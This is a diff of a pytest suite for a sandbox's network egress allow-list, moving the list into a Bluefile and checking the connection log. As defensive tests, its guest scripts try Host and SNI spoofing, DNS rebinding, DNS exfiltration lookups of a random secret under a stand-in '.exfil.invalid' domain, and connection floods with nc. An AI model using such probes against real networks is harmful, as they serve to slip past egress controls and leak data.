@@ -5,12 +5,13 @@ HTTP GET by name to the machine's Debian mirror works when the mirror is allowed
 when it is not; a Host or TLS SNI naming another name than the one resolved, an IP literal, UDP
 to an outside address, and a name resolving into the host's range without a CIDR entry are all
 refused promptly (a raw TCP client to a NAME:PORT entry gets through) and logged as JSON
-lines. Until the Bluefile's `allow:` lands, bluebox takes the list from its own environment
-(BLUEBOX_NET_ALLOW, BLUEBOX_NET_LOG: test-only). Needs root."""
+lines. Each case is a Bluefile with `allow:`; the log is the sandbox's connection log,
+$BLUEBOX_HOME/logs/net/<name>.log, as `bluebox logs <name> --net` reads it. Needs root."""
 import json
 import os
 import selectors
 import socket
+import stat
 import struct
 import subprocess
 import threading
@@ -101,16 +102,13 @@ def took(out, tag):
     return float(b) - float(a)
 
 
-def read_log(path):
-    lines = open(path).read().splitlines()
-    return [json.loads(ln) for ln in lines]
-
-
 class DnsSpy:
     """A DNS forwarder on addr:53 that records every name asked, passing queries on to the
-    host's own resolver: as the container's only nameserver, it sees whatever leaves."""
+    host's own resolver: as the container's only nameserver, it sees whatever leaves.
+    answers: names it answers itself (an IPv4 address each; no AAAA), for test servers."""
 
-    def __init__(self, addr):
+    def __init__(self, addr, answers=None):
+        self.answers = answers or {}
         ns = [ln.split()[1] for ln in open("/etc/resolv.conf") if ln.startswith("nameserver")]
         self.upstream = ns[0]
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -129,13 +127,31 @@ class DnsSpy:
             off += 1 + m[off]
         return ".".join(labels).lower()
 
+    @staticmethod
+    def answer(m, addr):
+        """The reply to query m: one A record for addr (an empty answer to other types)."""
+        end = 12
+        while m[end]:
+            end += 1 + m[end]
+        question = m[12:end + 5]
+        qtype = struct.unpack(">H", m[end + 1:end + 3])[0]
+        rr = b""
+        if qtype == 1:
+            rr = struct.pack(">HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(addr)
+        return (m[:2] + struct.pack(">HHHHH", 0x8180, 1, 1 if rr else 0, 0, 0) + question
+                + rr)
+
     def loop(self):
         while not self.stop.is_set():
             try:
                 m, peer = self.sock.recvfrom(4096)
             except OSError:
                 continue
-            self.names.append(self.qname(m))
+            name = self.qname(m)
+            self.names.append(name)
+            if name in self.answers:
+                self.sock.sendto(self.answer(m, self.answers[name]), peer)
+                continue
             with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as up:
                 up.settimeout(3)
                 try:
@@ -159,26 +175,44 @@ def spied_containers_conf(tmp_path, spy_addr):
     return str(path)
 
 
+def bluefile(allow):
+    """A bridge sandbox's Bluefile; allow: a list of entries, or None for plain bridge."""
+    text = f"base: {IMAGE}\nbackend: uml\nram_mib: 256\nnetwork: bridge\n"
+    if allow is not None:
+        text += "allow:\n" + "".join(f'  - "{a}"\n' for a in allow)
+    return text
+
+
 @pytest.fixture
-def sandbox(env, bluebox_bin, tmp_path):  # noqa: F811
+def sandbox(env, bluebox_bin):  # noqa: F811
+    """run(allow, script): the Bluefile given `allow` (rebuilt: a cached image, no podman
+    build), the script run in the guest; its output and the connection log's new lines."""
     h = Home(bluebox_bin)
-    name = h.sandbox(f"egress-{os.getpid()}",
-                     f"base: {IMAGE}\nbackend: uml\nram_mib: 256\nnetwork: bridge\n")
-    r = h("build", name)
-    assert r.returncode == 0, r
-    log = tmp_path / "net.log"
+    name = h.sandbox(f"egress-{os.getpid()}", bluefile([]))
+    log = h.dir / "home" / "logs" / "net" / f"{name}.log"
 
     def run(allow, script, timeout=180, extra=None):
-        log.write_text("")
-        log.chmod(0o600)
-        e = {"BLUEBOX_NET_LOG": str(log), **(extra or {})}
-        if allow is not None:
-            e["BLUEBOX_NET_ALLOW"] = allow
-        r = h("run", name, "--", "sh", "-c", script, timeout=timeout, env=e)
+        (h.dir / "home" / "sandboxes" / name / "Bluefile").write_text(bluefile(allow))
+        r = h("build", name, env=extra)
         assert r.returncode == 0, r
+        start = log.stat().st_size if log.exists() else 0
+        r = h("run", name, "--", "sh", "-c", script, timeout=timeout, env=extra)
+        assert r.returncode == 0, r
+        assert b"changed since it was built" not in r.stderr, r
         out = r.stdout.decode()
         print(out)
-        return out, read_log(log)
+        if allow is None:
+            return out, []
+        assert stat.S_IMODE(log.stat().st_mode) == 0o600
+        with open(log) as f:
+            f.seek(start)
+            entries = [json.loads(ln) for ln in f.read().splitlines()]
+        # `bluebox logs --net` reads the same file: every entry of this run is one of its rows
+        shown = h("logs", name, "--net", "-n", "1000")
+        assert shown.returncode == 0, shown
+        rows = shown.stdout.decode()
+        assert all(e["name"][:40] in rows for e in entries if e.get("name")), rows
+        return out, entries
 
     yield run
     h.close()
@@ -198,7 +232,7 @@ def test_allowlist_by_name_dns_http_literal_udp(sandbox):
         timed("udp", f"timeout 5 nslookup {host} {real}"),
         timed("denied", f"timeout 10 wget -q -O- http://{other}/"),
     ])
-    out, log = sandbox(host, script)
+    out, log = sandbox([host], script)
     assert "Address: 10.0.2.1" in out, out  # the fake address, not the mirror's
     assert "-----BEGIN PGP SIGNATURE-----" in out, out
     for tag in ("literal", "denied"):
@@ -218,7 +252,7 @@ def test_allowlist_by_name_dns_http_literal_udp(sandbox):
     assert not any(e.get("name") == other and e["decision"] == "allow" for e in log), log
 
     # the reverse: only the other name allowed; the mirror fails fast and is logged
-    out, log = sandbox(other, timed("mirror", f"timeout 20 wget -q -O- {url} | head -1"))
+    out, log = sandbox([other], timed("mirror", f"timeout 20 wget -q -O- {url} | head -1"))
     assert "-----BEGIN PGP SIGNATURE-----" not in out, out
     assert took(out, "mirror") < 2.0, out
     assert any(e.get("name") == host and e["decision"] == "deny" for e in log), log
@@ -247,8 +281,7 @@ def test_host_and_sni_must_name_the_resolved_name(sandbox):
             # other TCP to a NAME:PORT entry: the name itself decides (a raw client, no proxy)
             timed("raw", f"{{ echo hello-raw; sleep 1; }} | timeout 5 nc {HOSTS_NAME} {port}"),
         ])
-        allow = f"{HOSTS_NAME}:{port},{gw}/32"
-        out, log = sandbox(allow, script)
+        out, log = sandbox([f"{HOSTS_NAME}:{port}", f"{gw}/32"], script)
         assert out.count("hello-egress") == 1, out
         assert "raw-ok" in out, out
         for tag in ("host-evil", "sni-evil"):
@@ -264,7 +297,7 @@ def test_host_and_sni_must_name_the_resolved_name(sandbox):
 
         # without the CIDR entry the name resolves into the host's range: refused (rebinding)
         seen = len(srv.seen)
-        out, log = sandbox(f"{HOSTS_NAME}:{port}", timed("rebind", http % HOSTS_NAME))
+        out, log = sandbox([f"{HOSTS_NAME}:{port}"], timed("rebind", http % HOSTS_NAME))
         assert "hello-egress" not in out and took(out, "rebind") < 2.0, out
         assert len(srv.seen) == seen, srv.seen
         tcp = [e for e in log if e.get("kind") == "tcp"]
@@ -288,7 +321,7 @@ def test_denied_names_never_reach_the_upstream_resolver(sandbox, tmp_path):
         secret = f"s{uuid.uuid4().hex[:12]}.exfil.invalid"
         script = (f"nslookup {secret} >/dev/null 2>&1; nslookup x-{secret} >/dev/null 2>&1; "
                   f"timeout 20 wget -q -O- {url} | head -1")
-        out, log = sandbox(host, script, extra=conf)
+        out, log = sandbox([host], script, extra=conf)
         assert "-----BEGIN PGP SIGNATURE-----" in out, out
         assert host in spy.names, spy.names  # the engine's own lookup went through the spy
         assert not any("exfil" in n for n in spy.names), spy.names
@@ -333,7 +366,7 @@ def test_proxy_children_are_bounded(sandbox):
         script = (f"for i in $(seq 70); do {{ echo x; sleep 8; }} | timeout 10 nc {HOSTS_NAME} {port} "
                   f">/dev/null 2>&1 & done; sleep 6; echo open; wait; "
                   f"{{ echo again; sleep 1; }} | timeout 5 nc {HOSTS_NAME} {port}; echo done")
-        out, log = sandbox(f"{HOSTS_NAME}:{port},{gw}/32", script)
+        out, log = sandbox([f"{HOSTS_NAME}:{port}", f"{gw}/32"], script)
         assert "done" in out, out
         refused = [e for e in log if e.get("reason") == "too many connections at once"]
         allowed = [e for e in log if e.get("kind") == "tcp" and e["decision"] == "allow"]
